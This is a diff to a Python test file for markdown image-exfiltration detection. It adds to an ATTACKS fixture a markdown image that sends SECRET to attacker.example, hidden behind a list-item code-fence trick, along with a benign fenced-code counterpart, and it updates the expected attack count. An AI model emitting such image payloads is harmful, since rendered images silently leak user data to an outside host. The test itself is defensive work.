@@ -33,6 +33,14 @@ ATTACKS = "\n".join([
     "<pre>an escape is none in raw HTML</pre>\\<img src=https://attacker.example/b?d=SECRET>",
     "",
     "<a title='<img src=\"https://attacker.example/q?d=SECRET\">",
+    "",
+    "- a list item's fence ends with the item, and the fence after it is a new one",
+    "  ```",
+    "  code",
+    "```",
+    "code",
+    "```",
+    "![l](https://attacker.example/l?d=SECRET)",
 ])
 ORDINARY = "\n".join([
     "Here is the fix, see [the docs](https://docs.python.org/3/library/re.html?highlight=x)",
@@ -48,6 +56,12 @@ ORDINARY = "\n".join([
     "~~~",
     "",
     "Escaped: \\![not an image](https://example.org) and 3 < 4 > 2, **bold** `code`!",
+    "",
+    "1. In a list:",
+    "   ```sh",
+    "   echo '![x](https://attacker.example/a)'",
+    "   ```",
+    "2. Done.",
 ])
 
 
@@ -71,7 +85,7 @@ def remote_images(markdown: str) -> list[str]:
 
 def test_the_attacks_are_images_a_renderer_would_load() -> None:
     # the oracle itself: every line of ATTACKS loads SECRET when rendered as written
-    assert len([a for a in remote_images(ATTACKS) if "SECRET" in a]) == 11
+    assert len([a for a in remote_images(ATTACKS) if "SECRET" in a]) == 12
     assert remote_images(ORDINARY) == []
 
 
